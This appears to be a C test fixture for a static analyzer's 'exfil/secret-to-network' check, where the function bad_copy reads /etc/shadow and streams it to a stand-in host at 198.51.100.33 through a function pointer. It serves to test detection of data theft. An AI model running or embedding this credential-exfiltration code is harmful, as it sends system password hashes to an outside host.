// What is sent through a pointer to a library function has the place of that call.
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct channel {
    int fd;
    ssize_t (*put)(int, const void *, size_t);
};

static int dial(const char *address) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(2525)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, address, &peer.sin_addr);
    return connect(fd, (struct sockaddr *)&peer, sizeof peer) ? -1 : fd;
}

void bad_copy(void) {
    struct channel channel = {dial("198.51.100.33"), write};
    char line[256];
    FILE *file = fopen("/etc/shadow", "r");
    while (file && fgets(line, sizeof line, file))
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        channel.put(channel.fd, line, strlen(line));
}

void good_copy(const char *address, const char *path) {
    struct channel channel = {dial(address), write};
    char line[256];
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file))
        channel.put(channel.fd, line, strlen(line));
}
